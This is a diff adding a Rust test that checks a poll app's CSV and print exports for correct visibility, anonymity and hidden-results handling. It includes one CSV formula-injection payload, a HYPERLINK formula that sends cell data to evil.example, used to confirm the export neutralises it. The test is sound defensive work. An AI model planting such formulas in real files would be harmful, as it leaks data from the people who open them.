@@ -18,6 +18,7 @@ on_both!(
     rankings_follow_changed_and_withdrawn_votes,
     a_ranking_is_checked_and_works_without_javascript,
     quorum_and_pass_tests_say_plainly_what_happened,
+    exports_hold_what_the_page_shows_and_no_formula_runs,
 );
 
 struct Place {
@@ -354,4 +355,104 @@ async fn quorum_and_pass_tests_say_plainly_what_happened(app: &TestApp) {
     add_member(app, &p.group, &dan, Role::Member).await;
     let (q, _) = state().await;
     assert_eq!((q["eligible"].clone(), q["voted"].clone()), (json!(3), json!(3)));
+}
+
+/// The CSV and the printable page: the figures and votes the viewer may see, nothing more; a
+/// reason written as a formula arrives as text.
+async fn exports_hold_what_the_page_shows_and_no_formula_runs(app: &TestApp) {
+    let p = place(app).await;
+    let bob = app.signed_in_user("Bob", "bob@example.org", PASSWORD).await;
+    add_member(app, &p.group, &bob, Role::Member).await;
+    let outsider = app.signed_in_user("Eve", "eve@example.org", PASSWORD).await;
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+
+    let open = raise(
+        &p.ann,
+        &p.thread,
+        json!({"kind": "proposal", "title": "Paint the shed green?"}),
+    )
+    .await;
+    let key = open["key"].as_str().unwrap().to_owned();
+    assert_eq!(
+        vote(&bob, &key, json!([{"option": option(&open, "Agree")}]), formula)
+            .await
+            .status,
+        200
+    );
+    let res = p.ann.get(&format!("/p/{key}/results.csv")).await;
+    assert_eq!(res.status, 200);
+    assert_eq!(res.header("content-type").as_deref(), Some("text/csv; charset=utf-8"));
+    assert!(
+        res.header("content-disposition")
+            .unwrap_or_default()
+            .starts_with("attachment")
+    );
+    let lines: Vec<&str> = res.body.lines().collect();
+    assert!(
+        lines[0].starts_with("\u{feff}\"Poll\",\"Paint the shed green?\""),
+        "{}",
+        res.body
+    );
+    assert!(res.body.contains("\"Agree\",\"1\",\"100.0%\""), "{}", res.body);
+    let vote_line = lines.iter().find(|l| l.starts_with("\"Bob\"")).expect("Bob's vote");
+    assert!(vote_line.contains("\"'=HYPERLINK("), "neutralised: {vote_line}");
+    let print = p.ann.get(&format!("/p/{key}/print")).await;
+    assert_eq!(print.status, 200);
+    assert!(print.body.contains("<h2 id=\"votes-heading\">Votes</h2>") && print.body.contains("HYPERLINK"));
+    for path in [format!("/p/{key}/results.csv"), format!("/p/{key}/print")] {
+        assert_eq!(outsider.get(&path).await.status, 404, "{path}: a private group's poll");
+    }
+
+    // Anonymous: figures, no voters.
+    let anonymous = raise(
+        &p.ann,
+        &p.thread,
+        json!({"kind": "proposal", "title": "Who holds the key?", "anonymous": true}),
+    )
+    .await;
+    let akey = anonymous["key"].as_str().unwrap().to_owned();
+    assert_eq!(
+        vote(&bob, &akey, json!([{"option": option(&anonymous, "Agree")}]), "")
+            .await
+            .status,
+        200
+    );
+    let csv = p.ann.get(&format!("/p/{akey}/results.csv")).await.body;
+    assert!(csv.contains("\"Agree\",\"1\""), "{csv}");
+    assert!(
+        !csv.contains("\"Voter\",") && !csv.contains("Bob"),
+        "no name in an anonymous poll's export: {csv}"
+    );
+    let print = p.ann.get(&format!("/p/{akey}/print")).await.body;
+    assert!(!print.contains("votes-heading") && !print.contains(">Bob<"));
+
+    // Hidden until closed: neither figures nor voters, for its author too.
+    let hidden = raise(
+        &p.ann,
+        &p.thread,
+        json!({"kind": "proposal", "title": "Budget?", "hide_results": "until_closed"}),
+    )
+    .await;
+    let hkey = hidden["key"].as_str().unwrap().to_owned();
+    assert_eq!(
+        vote(
+            &bob,
+            &hkey,
+            json!([{"option": option(&hidden, "Disagree")}]),
+            "Too dear"
+        )
+        .await
+        .status,
+        200
+    );
+    for who in [&p.ann, &bob] {
+        let csv = who.get(&format!("/p/{hkey}/results.csv")).await.body;
+        assert!(csv.contains("hidden until they may be seen"), "{csv}");
+        assert!(!csv.contains("Disagree") && !csv.contains("Too dear"), "{csv}");
+        let print = who.get(&format!("/p/{hkey}/print")).await.body;
+        assert!(
+            !print.contains("Too dear") && print.contains("Results are hidden"),
+            "{print}"
+        );
+    }
 }
